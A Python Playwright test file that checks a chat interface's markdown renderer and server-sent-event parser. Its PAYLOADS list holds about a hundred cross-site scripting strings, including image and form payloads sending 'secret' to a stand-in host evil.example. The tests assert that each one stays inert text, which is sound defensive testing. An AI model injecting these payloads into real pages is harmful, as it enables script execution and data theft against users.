"""The chat's modules in Chromium: sse.js against every way to cut a stream, render.js against hostile and odd text."""

from __future__ import annotations

import json
from collections.abc import Iterator
from functools import partial
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, Route

from tests.support.servers.browser import Watched, ask, fake_answer, sse, wait_for_status, watching

pytestmark = [pytest.mark.browser, pytest.mark.timeout(180)]


@pytest.fixture(scope="module")
def lab(browser: Browser, site: str) -> Iterator[Watched]:
    """One open page for the tests that only call modules; its complaints are checked at the end."""
    with watching(browser, site) as page:
        page.page.goto(site)
        yield page


# Hostile output of a model. Each must stay text: no such element, no request, no dialog.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<script src=https://evil.example/x.js></script>",
    "<ScRiPt>alert(1)</ScRiPt>",
    "<script\x20type='text/javascript'>alert(1);</script>",
    "<script/src=data:,alert(1)>",
    "<<script>script>alert(1)<</script>/script>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/?q=secret'>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img src=x:x onerror=alert(1)>",
    "<image href=https://evil.example/x>",
    "<picture><source srcset=https://evil.example/x><img></picture>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<svg><foreignObject><iframe src=https://evil.example></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=https://evil.example/x></object>",
    "<embed src=https://evil.example/x>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/x>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{background:url(https://evil.example/x)}</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=q value=secret><button>Go</button></form>",
    "<button formaction=https://evil.example>Go</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<video src=https://evil.example/x autoplay onerror=alert(1)></video>",
    "<audio src=https://evil.example/x autoplay></audio>",
    "<video poster=https://evil.example/x></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<html><head><script>alert(1)</script></head></html>",
    "<a href='javascript:alert(1)'>x</a>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<title><img src=x onerror=alert(1)></title>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><img src=x onerror=alert(1)>",
    "</p></div></section><img src=x onerror=alert(1)>",
    "'\"><img src=x onerror=alert(1)>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](java\tscript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](//evil.example/x)",
    "[x](/admin/logout/)",
    "[x](https://user:pass@evil.example/)",
    "[x](https:evil.example)",
    "[x](http://\u202eevil.example/)",
    '[x](https://evil.example/ "onmouseover=alert(1)")',
    "[x](https://evil.example/'onmouseover='alert(1))",
    "[<img src=x onerror=alert(1)>](https://evil.example/)",
    "![x](https://evil.example/?q=secret)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![<img src=x onerror=alert(1)>](https://evil.example/)",
    "[![x](https://evil.example/a.png)](javascript:alert(1))",
    "<javascript:alert(1)>",
    "<https://evil.example/<script>alert(1)</script>>",
    'https://evil.example/"onmouseover="alert(1)',
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "```<img src=x onerror=alert(1)>\nx\n```",
    "~~~\n<iframe src=https://evil.example>\n",
    "<think><script>alert(1)</script></think>",
    "<think><img src=https://evil.example/x>",
    '<tool_call>{"name": "<img src=x onerror=alert(1)>"}</tool_call>',
    "<tool_call><script>alert(1)</script></tool_call>",
    '<tool_call>{"__proto__": {"x": 1}, "name": "constructor"}</tool_call>',
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    "# <svg onload=alert(1)>",
    "> <iframe src=https://evil.example>",
    "- <img src=x onerror=alert(1)>\n  - <script>alert(1)</script>",
    "**<img src=x onerror=alert(1)>**",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "\ufeff<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
]

# The elements of an answer, and the attributes that each may have.
ALLOWED = {
    "A": {"href", "target", "rel", "title"},
    "BLOCKQUOTE": {"dir"},
    "BR": set(),
    "BUTTON": {"type", "class", "data-label"},
    "CODE": {"dir"},
    "DEL": set(),
    "DETAILS": {"class"},
    "DIV": {"class", "dir", "tabindex"},
    "EM": set(),
    "H3": {"dir"},
    "H4": {"dir"},
    "H5": {"dir"},
    "H6": {"dir"},
    "HR": set(),
    "LI": {"class"},
    "OL": {"dir", "start"},
    "P": {"dir"},
    "PRE": {"tabindex"},
    "SPAN": {"class"},
    "STRONG": set(),
    "SUMMARY": set(),
    "TABLE": set(),
    "TBODY": set(),
    "TD": {"class"},
    "TH": {"class"},
    "THEAD": set(),
    "TR": set(),
    "UL": {"dir"},
}

FORBIDDEN = "script, img, iframe, svg, style, form, input, link, object, embed, video, audio, math, base, meta"

RENDER = """async ([text, cuts]) => {
  const { AnswerView } = await import('/static/streamserve/answer_view.js');
  const root = document.createElement('div');
  document.body.append(root);
  const view = new AnswerView(root);
  for (let end = cuts; cuts > 0 && end < text.length; end += cuts) view.update(text.slice(0, end), true);
  view.update(text, false);
  const nodes = [...root.querySelectorAll('*')].map((node) => [
    node.tagName, node.getAttributeNames(), ...['href', 'rel', 'target'].map((name) => node.getAttribute(name)),
  ]);
  const result = { html: root.innerHTML, text: root.innerText, nodes };
  root.remove();
  return result;
}"""


def render(page: Page, text: str, cuts: int = 0) -> dict[str, Any]:
    """Render `text` at once, or growing by `cuts` characters a time."""
    result: dict[str, Any] = page.evaluate(RENDER, [text, cuts])
    return result


def html(page: Page, text: str) -> str:
    """Return the markup of `text` without the wrapper and the directions."""
    markup = str(render(page, text)["html"]).replace(' dir="auto"', "").replace(' dir="ltr"', "")
    return markup.removeprefix('<div class="ss-text">').removesuffix("</div>")


# --- hostile text ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("cuts", [0, 1, 3])
def test_hostile_text_makes_no_element_outside_the_vocabulary(lab: Watched, cuts: int) -> None:
    """Whole or token by token: only allowed elements and attributes, only http(s) and mailto links, no request."""
    assert len(PAYLOADS) >= 60
    for payload in PAYLOADS:
        for tag, attributes, href, rel, target in render(lab.page, payload, cuts)["nodes"]:
            assert tag in ALLOWED, (payload, tag)
            assert set(attributes) <= ALLOWED[tag], (payload, tag, attributes)
            if tag == "A":
                assert href.startswith(("http://", "https://", "mailto:")), (payload, href)
                assert (rel, target) == ("noopener noreferrer nofollow", "_blank"), payload
    lab.page.wait_for_timeout(200)  # a request or a dialog would have come
    lab.assert_quiet()


def test_hostile_text_through_the_whole_page(watched: Watched) -> None:
    """The corpus as one answer, from the wire to the screen, and once more from storage after a reload."""
    page = watched.page
    page.route("**/streams", lambda route: route.fulfill(**fake_answer("\n\n".join(PAYLOADS))))
    ask(page, "<img src=x onerror=alert(1)>")
    wait_for_status(page, "Answer complete")
    for _ in range(2):
        assert page.locator(".ss-log").locator(FORBIDDEN).count() == 0
        assert page.locator(".ss-question p").inner_text() == "<img src=x onerror=alert(1)>"
        page.reload()
        page.locator(".ss-turn").wait_for()


@pytest.mark.parametrize(
    ("target", "is_link"),
    [
        ("https://example.com/a?b=c#d", True),
        ("http://example.com", True),
        ("mailto:help@example.com", True),
        ("HTTPS://EXAMPLE.COM/", True),
        ("ftp://example.com/", False),
        ("tel:123", False),
        ("example.com", False),
        ("#top", False),
        ("?q", False),
    ],
)
def test_only_web_and_mail_addresses_become_links(lab: Watched, target: str, is_link: bool) -> None:
    markup = html(lab.page, f"[here]({target})")
    assert ("<a " in markup) is is_link
    assert "here" in markup


def test_a_link_that_names_another_host_shows_where_it_goes(lab: Watched) -> None:
    shown = render(lab.page, "[https://bank.example/login](https://evil.example/login)")["text"]
    assert shown == "https://bank.example/login (evil.example)"


@pytest.mark.parametrize(
    "unit", ["*a ", "**a ", "_*", "*_~~**", "[", "![a](", "`a``", "> ", "1. a\n\n", "    - x\n", "|a|\n|-|\n"]
)
def test_no_text_takes_long_to_render(lab: Watched, unit: str) -> None:
    """50 kB of the worst of each kind takes a fifth of a second, not the square of its length (minutes)."""
    milliseconds = lab.page.evaluate(
        """async (unit) => {
          const { AnswerView } = await import('/static/streamserve/answer_view.js');
          const text = unit.repeat(50000 / unit.length);
          const startedAt = performance.now();
          new AnswerView(document.createElement('div')).update(text, true);
          return performance.now() - startedAt;
        }""",
        unit,
    )
    assert milliseconds < 20_000, "the square of the length, or worse"


# --- markdown --------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "markup"),
    [
        ("plain", "<p>plain</p>"),
        ("one\ntwo\n\nthree", "<p>one<br>two</p><p>three</p>"),
        (
            "**b** *i* ***bi*** `c` ~~d~~",
            "<p><strong>b</strong> <em>i</em> <strong><em>bi</em></strong> <code>c</code> <del>d</del></p>",
        ),
        ("snake_case_name and 5 * 3 * 2", "<p>snake_case_name and 5 * 3 * 2</p>"),
        ("**open", "<p>**open</p>"),
        ("`` a`b ``", "<p><code>a`b</code></p>"),
        (r"\*not\* \`code\`", "<p>*not* `code`</p>"),
        ("- a\n- b\n  - c\n- d", "<ul><li>a</li><li><p>b</p><ul><li>c</li></ul></li><li>d</li></ul>"),
        ("3. a\n4. b", '<ol start="3"><li>a</li><li>b</li></ol>'),
        ("1. a\n\n2. b", "<ol><li>a</li><li>b</li></ol>"),
        ("text\n- a", "<p>text</p><ul><li>a</li></ul>"),
        ("# h", "<h3>h</h3>"),
        ("> q\n> r", "<blockquote><p>q<br>r</p></blockquote>"),
        ("---", "<hr>"),
        ("a | b", "<p>a | b</p>"),
        (
            "|a|b|c|\n|-|-:|:-:|\n|1|2|3|",
            '<div class="ss-table" tabindex="0"><table><thead><tr><th>a</th><th class="is-right">b</th>'
            '<th class="is-centred">c</th></tr></thead><tbody><tr><td>1</td><td class="is-right">2</td>'
            '<td class="is-centred">3</td></tr></tbody></table></div>',
        ),
        ("- [ ] a\n- [x] b", '<ul><li class="ss-task">☐ a</li><li class="ss-task">☑ b</li></ul>'),
        ("#hashtag", "<p>#hashtag</p>"),
    ],
)
def test_markdown(lab: Watched, text: str, markup: str) -> None:
    assert html(lab.page, text) == markup


DIRECTIONS = """async (text) => {
  const { AnswerView } = await import('/static/streamserve/answer_view.js');
  const root = document.createElement('div');
  document.body.append(root);
  new AnswerView(root).update(text, false);
  const parts = root.querySelectorAll('ol, ul, li, blockquote, table, th, td');
  const directions = [...parts].map((node) => getComputedStyle(node).direction);
  root.remove();
  return [...new Set(directions)];
}"""


@pytest.mark.parametrize(("word", "direction"), [("one", "ltr"), ("שלום", "rtl"), ("مرحبا", "rtl")])
def test_a_list_a_quote_and_a_table_have_the_direction_of_their_first_letter(
    lab: Watched, word: str, direction: str
) -> None:
    """Markers, bars and columns are on one side, within the column of the text, whatever a later item is written in."""
    for text in ("- {0}\n- b\n- ש", "1. `a` {0}\n2. b", "> {0}\n>\n> b", "| {0} | b |\n|---|---|\n| c | ש |"):
        assert lab.page.evaluate(DIRECTIONS, text.format(word)) == [direction], text


def test_code_is_verbatim_and_can_be_copied(watched: Watched) -> None:
    """A fence keeps its text to the character, while it is still open too; the button copies just that."""
    page = watched.page
    code = "if a < b:\n\n    **not bold**\n\t<b>"
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    page.route("**/streams", lambda route: route.fulfill(**fake_answer(f"See:\n```python\n{code}\n```\nDone.")))
    ask(page, "Code?")
    wait_for_status(page, "Answer complete")
    assert page.locator(".ss-code pre").inner_text() == code
    assert page.locator(".ss-code-label").inner_text() == "python"
    page.locator(".ss-code").get_by_role("button", name="Copy").click()
    page.get_by_role("button", name="Copied").wait_for()
    assert page.evaluate("navigator.clipboard.readText()") == code


def test_thinking_is_folded_and_tool_calls_are_labelled(watched: Watched) -> None:
    """`<think>` is a closed <details>, a tool call a code block with its name; in code both are only text."""
    page = watched.page
    call = '{"name": "look_up", "arguments": {"id": 1}}'
    answer = f"<think>first\n\nsecond</think>Shown.<tool_call>{call}</tool_call> `<think>`"
    page.route("**/streams", lambda route: route.fulfill(**fake_answer(answer)))
    ask(page, "Think")
    wait_for_status(page, "Answer complete")
    thought = page.locator("details.ss-think")
    assert thought.get_attribute("open") is None
    assert not page.get_by_text("second").is_visible()
    thought.locator("summary").click()
    assert page.get_by_text("second").is_visible()
    assert page.locator(".ss-tool .ss-code-label").inner_text() == "Tool call · look_up"
    assert page.locator(".ss-tool code").inner_text() == json.dumps(json.loads(call), indent=2)
    assert page.locator(".ss-text code").inner_text() == "<think>"


def test_a_page_ignores_what_it_does_not_know(watched: Watched) -> None:
    """Thinking and tool calls are not the answer's text; events and fields of later releases are no fault."""
    page = watched.page

    def token(index: int, text: str) -> tuple[str, dict[str, Any]]:
        return "token", {"text": text, "token_ids": [1], "index": index, "choice": 0, "mood": "good"}

    def block(index: int, kind: str) -> tuple[str, dict[str, Any]]:
        return "block_start", {"choice": 0, "index": index, "kind": kind}

    head, end = ("meta", {"model": "echo"}), ("done", {"finish_reason": "stop", "totalTokens": 1, "latency": 0.5})
    stops = [("block_stop", {"choice": 0, "index": index}) for index in range(4)]
    first = [block(0, "thinking"), token(0, "Hm."), stops[0], block(1, "text"), token(1, "Shown "), stops[1]]
    later = [("citation", {"source": "docs", "id": "d1"}), ("mood", {"index": 1}), ("unknown", {"kind": "mood"})]
    last = [block(2, "tool_use"), token(2, "{}"), stops[2], block(3, "text"), token(3, "answer."), stops[3]]
    body = sse(head, *first, *later, *last, end)
    headers = {"Content-Type": "text/event-stream", "X-Stream-Id": "0" * 32}
    page.route("**/streams", lambda route: route.fulfill(status=200, body=body, headers=headers))
    ask(page, "Anything")
    wait_for_status(page, "Answer complete")
    assert [text.strip() for text in page.locator(".ss-text").all_inner_texts()] == ["Shown", "answer."]
    assert page.locator(".ss-sources li").all_inner_texts() == ["d1 docs"]


TEXTS = [
    "**bold** and *it* `code` [a](https://example.com) ![b](https://example.com/b.png)\n\n"
    "1. x\n2. y\n   - z\n\n```js\nlet a\n```\n> q\n\n| a | b |\n|--|--|\n| 1 | 2 |\n\n# h\n---\nend",
    '<think>hm **x**</think>yes <tool_call>{"name": "f"}</tool_call> after <b>no</b> &amp; 👩‍👩‍👧 静 שלום',
    "thoughts without a beginning</think>The answer.",
    "- a\n\n  b\n- c\n\nd\n***\n    code? no\n~~~\nopen fence",
]


@pytest.mark.parametrize("cuts", [1, 2, 5])
@pytest.mark.parametrize("text", TEXTS)
def test_growing_token_by_token_ends_as_if_rendered_at_once(lab: Watched, text: str, cuts: int) -> None:
    assert render(lab.page, text, cuts)["html"] == render(lab.page, text)["html"]


def test_a_half_written_mark_is_not_shown(lab: Watched) -> None:
    """While text grows, emphasis and links look finished, and the beginning of a tag waits."""
    shown = lab.page.evaluate(
        """async () => {
          const { AnswerView } = await import('/static/streamserve/answer_view.js');
          return ['a **b', 'a **', 'a `b', 'a [b](https://exa', 'a <thi', 'a <tool_call', '1 < 2'].map((text) => {
            const root = document.createElement('div');
            new AnswerView(root).update(text, true);
            return root.textContent;
          });
        }"""
    )
    assert shown == ["a b", "a ", "a b", "a b", "a", "a", "1 < 2"]


# --- server-sent events ----------------------------------------------------------------------------------------------

STREAMS = {
    "LF": 'event: token\nid: a-1\ndata: {"text": "é静🙂"}\n\ndata: two\n\n',
    "CR": "event: token\rid: a-1\rdata: one\r\rdata: two\r\r",
    "CRLF": "event: token\r\nid: a-1\r\ndata: one\r\n\r\ndata: two\r\n\r\n",
    "mixed": "data: a\r\ndata: b\rdata: c\n\r\ndata: d\n\n\n\ndata: e\r\r\n",
    "byte order mark": "\ufeffdata: one\n\n",
    "two marks": "\ufeff\ufeffdata: one\n\ndata: two\n\n",
    "comments and unknown fields": ": ok\n\n:\nfoo: bar\ndata: one\nnothing\n\n: keepalive\n\n",
    "no space, two spaces, no colon": "data:one\n\ndata:  two\n\ndata\n\ndata\ndata\n\n",
    "ids": "id: a-1\ndata: 1\n\ndata: 2\n\nid: b\0c\ndata: 3\n\nid\ndata: 4\n\n",
    "id without data": "id: a-9\n\ndata: one\n\nevent: lost\n\ndata: two\n\n",
    "cut off": "data: one\n\ndata: never dispatched",
    "cut off by one line end": "data: one\n\nid: a-2\ndata: never dispatched\n",
    "retry": "retry: 10\ndata: one\n\nretry: x\ndata: two\n\n",
}
PARSE = """async ([bytes, allCuts]) => {
  const { readEvents } = await import('/static/streamserve/sse.js');
  const body = (cuts) => new ReadableStream({
    start(controller) {
      let at = 0;
      for (const end of [...cuts, bytes.length]) { controller.enqueue(new Uint8Array(bytes.slice(at, end))); at = end; }
      controller.close();
    },
  });
  const results = [];
  for (const cuts of allCuts) {
    const out = [];
    for await (const event of readEvents(body(cuts))) out.push([event.type, event.data, event.id]);
    results.push(out);
  }
  return results;
}"""


def parse(page: Page, text: str, *cuts: list[int]) -> list[list[list[str]]]:
    """Return the events of `text`, once for each list of places to cut its bytes at."""
    results: list[list[list[str]]] = page.evaluate(PARSE, [list(text.encode()), list(cuts)])
    return results


@pytest.mark.parametrize("name", STREAMS)
def test_events_do_not_depend_on_where_the_bytes_are_cut(lab: Watched, name: str) -> None:
    """Cut at every byte, and into single bytes: the same events as in one piece."""
    places = list(range(1, len(STREAMS[name].encode())))
    whole, *cut = parse(lab.page, STREAMS[name], [], places, *([place] for place in places))
    assert cut == [whole] * len(cut)


@pytest.mark.parametrize(
    ("name", "events"),
    [
        ("LF", [["token", '{"text": "é静🙂"}', "a-1"], ["message", "two", "a-1"]]),
        ("mixed", [["message", "a\nb\nc", ""], ["message", "d", ""], ["message", "e", ""]]),
        ("byte order mark", [["message", "one", ""]]),
        ("two marks", [["message", "two", ""]]),
        ("comments and unknown fields", [["message", "one", ""]]),
        (
            "no space, two spaces, no colon",
            [["message", "one", ""], ["message", " two", ""], ["message", "", ""], ["message", "\n", ""]],
        ),
        ("ids", [["message", "1", "a-1"], ["message", "2", "a-1"], ["message", "3", "a-1"], ["message", "4", ""]]),
        ("id without data", [["message", "one", "a-9"], ["message", "two", "a-9"]]),
        ("cut off", [["message", "one", ""]]),
        ("cut off by one line end", [["message", "one", ""]]),
    ],
)
def test_events_are_those_of_the_standard(lab: Watched, name: str, events: list[list[str]]) -> None:
    assert parse(lab.page, STREAMS[name], []) == [events]


def _fulfil(route: Route, *, body: str) -> None:
    route.fulfill(body=body, content_type="text/event-stream")


def test_the_browsers_own_eventsource_agrees(lab: Watched) -> None:
    """Each stream through EventSource gives the same data and ids as through sse.js."""
    page = lab.page
    for name, text in STREAMS.items():
        page.route("**/reference", partial(_fulfil, body=text))
        reference = page.evaluate(
            """() => new Promise((resolve) => {
              const source = new EventSource('/reference');
              const out = [];
              const take = (event) => out.push([event.type, event.data, event.lastEventId]);
              for (const type of ['message', 'token', 'lost']) source.addEventListener(type, take);
              source.onerror = () => { source.close(); resolve(out); };
            })"""
        )
        page.unroute("**/reference")
        assert parse(page, text, []) == [reference], name
